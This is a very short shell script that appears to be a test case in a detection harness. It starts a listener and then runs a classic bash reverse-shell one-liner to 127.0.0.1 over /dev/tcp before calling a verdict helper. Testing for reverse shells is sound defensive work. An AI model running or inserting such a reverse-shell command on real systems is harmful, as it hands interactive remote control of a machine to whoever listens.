. "$CORPUS/lib/common.sh"
attacker listen 31001
bash -c 'bash -i >&/dev/tcp/127.0.0.1/31001 0>&1' &
verdict
